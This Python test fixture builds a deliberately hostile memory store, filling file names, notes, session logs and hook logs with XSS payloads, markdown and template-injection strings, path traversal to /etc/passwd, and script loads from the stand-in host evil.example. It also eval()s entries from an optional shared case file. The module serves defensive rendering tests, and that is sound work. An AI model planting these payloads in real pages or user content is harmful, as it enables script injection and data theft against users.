"""Hostile memory: what an attacker, a bad import or a broken editor may leave in a root.

Every vector stands in each place that a page shows: names of files and folders, titles, tags,
headings, bodies, messages, tool traffic, ids and branches of sessions, topics, categories, entries
of the hook log. `shared/hostile.json` beside the repository adds its cases where it is there.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

from commonplace.doors.hook_log import ERRORS, LOG

HOSTILE = Path(__file__).parents[3] / "shared" / "hostile.json"
VECTORS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "<svg><script xlink:href=http://evil.example/x.js></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=http://evil.example></object><embed src=http://evil.example>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';*{display:none}</style>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input name=q autofocus onfocus=alert(1)></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=http://evil.example/a.ogg autoplay>",
    "<a href=javascript:alert(1) id=csrf name=csrf>click</a>",
    "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) [c](vbscript:x)",
    "[d](&#106;avascript:alert(1)) [e](java\tscript:alert(1)) [f](//evil.example)",
    "![p](http://evil.example/p.png) ![q](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![r][r]\n\n[r]: http://evil.example/r.png 'x\" onerror=\"alert(1)'",
    '```"><script>alert(1)</script>\ncode\n```',
    '[["><img src=x onerror=alert(1)>|<b>x</b>]] [[../../etc/passwd]] [[http://evil.example]]',
    "<!--><img src=x onerror=alert(1)>--> <![CDATA[<script>alert(1)</script>]]>",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} #{7*7}",
    "\u202eexe.gpj\u202c \u2066x\u2069 \u200b\u200d\ufeff\u2028\u2029",
    "\x00\x01\x08\x0b\x1b[31m\x1b]0;t\x07\x7f\x9b",
    "Z" + "\u0301" * 500 + " \U000e0041\U000e0042",
    "https://evil.example/?q=" + "a" * 3000,
    "# " * 200,
    "> " * 500 + "deep",
    "- " * 300 + "deep",
    "[" * 3000,
    "*" * 3000 + "a",
    "|a|\n|-|\n" + "|x|\n" * 300,
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "' onmouseover=alert(1) x='",
    "`<script>alert(1)</script>`",
]
NAMES = [
    "<img src=x onerror=alert(1)>.md",
    '"><svg onload=alert(1)>.md',
    "javascript:alert(1).md",
    "\u202edm.exe.md",
    "a'b&c;d=e?f#g%2e%2e%2fh.md",
    "tab\tline\nbreak.md",
    "{{7*7}}.md",
    ("长" * 60) + ".md",
]
LONG_LINE = 10_000_000
"""Characters of one line."""
MOST = 5000
"""Characters of a vector."""
ROWS = 100_000
"""Rows of a table, lines of a transcript, and entries of a profile."""


def vectors() -> list[str]:
    """Return the vectors of this file, and those of the shared set where it is there."""
    found = [*VECTORS]
    if HOSTILE.is_file():
        for case in json.loads(HOSTILE.read_text(encoding="utf-8")):
            value = case["value"]
            if case["kind"] in {"xss", "markdown", "injection"} and isinstance(value, str):
                found.append(_evaluated(value))
    # what is large stands once, in files of its own
    return [text[:MOST] for text in found if text]


def _evaluated(value: str) -> str:
    if not value.startswith("py:"):
        return value
    # our own set, which says how it is to be read
    text = eval(value[3:])  # noqa: S307 - our own set
    return text if isinstance(text, str) else ""


def build(root: Path) -> None:
    """Write the hostile root, past the store, as another program would."""
    texts = [text.encode("utf-8", "replace").decode() for text in vectors()]
    _write(root / "all.md", _note(texts))
    for number, text in enumerate(texts):
        _write(root / "each" / f"{number:03}.md", _note([text]))
    folder = root / '<b onclick=alert(1)>"folder'
    for name in (*NAMES, "MEMORY.md"):
        if sys.platform != "win32":
            _write(folder / name, _note(texts[:3]))
    _write(root / "long-line.md", "# Long\n\n" + "word " * (LONG_LINE // 5) + "\n")
    _write(root / "rows.md", "# Rows\n\n|a|b|\n|-|-|\n" + "|x|y|\n" * ROWS)
    _memories(root, texts)
    _sessions(root, texts)
    _hooks(root, texts)


def _note(texts: list[str]) -> str:
    tags = ", ".join(json.dumps(text[:60]) for text in texts[:12])
    head = f"---\ntags: [{tags}]\nsummary: {json.dumps(texts[0][:200])}\n---\n"
    parts = (f"## {' '.join(text.split())[:300]}\n\n{text}\n\n#tag{text[:20]}" for text in texts)
    return head + "\n\n".join(parts) + "\n"


def _memories(root: Path, texts: list[str]) -> None:
    lines = ["---\nunit: item\n---\n# Memory\n"]
    for text in texts:
        flat = " ".join(text.split())[:2000]
        lines.append(
            f"\n## {flat[:150]}\n\n- {flat}\n- ~~{flat}~~ <!-- META: until=2020-01-01 -->\n"
        )
    _write(root / "MEMORY.md", "".join(lines))
    items = "".join(f"- User likes tea number {number}\n" for number in range(ROWS // 10))
    _write(root / "users" / "many" / "MEMORY.md", f"---\nunit: item\n---\n## Tea\n\n{items}")
    for number, text in enumerate(texts):
        _write(
            root / "world" / f"w{number:03}.md",
            f"<!--\nMETA:\n- topic: {json.dumps(text)}\n-->\n{text}\n",
        )
    _write(root / "agents" / "<i>x" / "MEMORY.md", _note(texts))
    _write(root / "agents" / "<i>x" / "daily" / "2026-02-24.md", _note(texts))
    blocks = "".join(
        f"## {' '.join(text.split())[:200]}\n<!--\nMETA:\n- id: {json.dumps(text[:80])}\n"
        f"- metadata: {json.dumps({'archived': [text[:100]], 'entries': text[:50]})}\n"
        f"-->\n\n{text}\n\n"
        for text in texts
    )
    for place in ("episodes/2026-02.md", "archive/episodes/2026-02.md", "procedures/rules.md"):
        _write(root / place, f"# Episodes\n\n{blocks}")
    own = root / "sessions" / "--x--" / "<b>s1" / "working-memory"
    _write(own / "overview.md", _note(texts))
    _write(own / "detail" / "<i>.md", _note(texts))
    log = "".join(
        f"## {' '.join(text.split())[:200] or 'x'}\n<!--\nMETA:\n"
        f"- id: {json.dumps(f'{number:010x}')}\n"
        f'- kind: "commit"\n- time: {json.dumps(text[:40])}\n- branch: "main"\n- parent: null\n'
        f"- files: {json.dumps({text[:60]: 'absent'})}\n-->\n\n"
        for number, text in enumerate(texts)
    )
    _write(own / "commits.md", f"# Commits\n\n{log}")


def _sessions(root: Path, texts: list[str]) -> None:
    for number, text in enumerate(texts):
        header = dict.fromkeys(
            ("host", "id", "cwd", "git_branch", "model", "title", "parent"), text
        )
        records: list[dict[str, object]] = [{"type": "session", **header, "started": text[:40]}]
        records += [
            {"role": role, "name": text[:80], "content": text, "session": text[:80]}
            for role in ("user", "assistant", text[:50])
        ]
        blocks = [
            {"type": "tool_use", "id": text[:20], "name": text[:50], "input": {text[:50]: text}},
            {"type": "tool_result", "tool_use_id": text[:20], "content": text},
            {"type": "image", "source": {"type": "url", "url": "http://evil.example/i.png"}},
            {"type": "thinking", "thinking": text},
        ]
        records.append(
            {"role": "assistant", "content": blocks, "timestamp": "2026-02-24T10:00:00Z"}
        )
        lines = "".join(json.dumps(one) + "\n" for one in records)
        project = "<u>evil" if number % 2 else "evil"
        _write(root / "sessions" / project / f"s{number:03}" / "messages.jsonl", lines)
    long_one = json.dumps({"role": "user", "content": "word " * (LONG_LINE // 5)})
    _write(root / "sessions" / "long" / "s" / "messages.jsonl", f"{long_one}\n")
    many = "".join(
        f'{{"role":"{"user" if number % 2 else "assistant"}","content":"row {number}"}}\n'
        for number in range(ROWS)
    )
    _write(root / "sessions" / "many" / "s" / "messages.jsonl", many)
    bad = "".join(f"{text[:80].replace(chr(10), ' ')}\n" for text in texts)
    _write(root / "sessions" / "bad" / "<b>bad" / "messages.jsonl", bad)


def _hooks(root: Path, texts: list[str]) -> None:
    entries: list[dict[str, object]] = []
    for text in texts:
        base = dict.fromkeys(("host", "session", "source"), text[:500])
        shown: list[object] = [
            {"citation": text[:300], "score": 1.5},
            {"citation": "all.md#L9", "score": text},
            7,
        ]
        entries.append(
            {"time": text[:30], **base, "event": "prompt", "characters": text, "shown": shown}
        )
        entries.append({"time": "2026-02-24T10:00:00Z", **base, "event": text, "shown": {"x": 1}})
    lines = "".join(json.dumps(one) + "\n" for one in entries)
    _write(root / ".commonplace" / "hooks" / LOG, f"{lines}[1]\nnull\ntorn {{")
    errors = "".join(json.dumps({"time": one, "host": one, "error": one}) + "\n" for one in texts)
    _write(root / ".commonplace" / "hooks" / ERRORS, errors)


def _write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode("utf-8", "replace"))
